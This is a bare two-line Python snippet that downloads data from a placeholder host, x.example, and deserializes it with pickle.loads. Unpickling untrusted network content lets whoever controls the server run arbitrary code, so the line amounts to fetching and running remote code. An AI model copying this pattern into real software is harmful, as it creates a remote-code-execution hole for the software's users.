import pickle, requests
m = pickle.loads(requests.get("http://x.example/m").content)
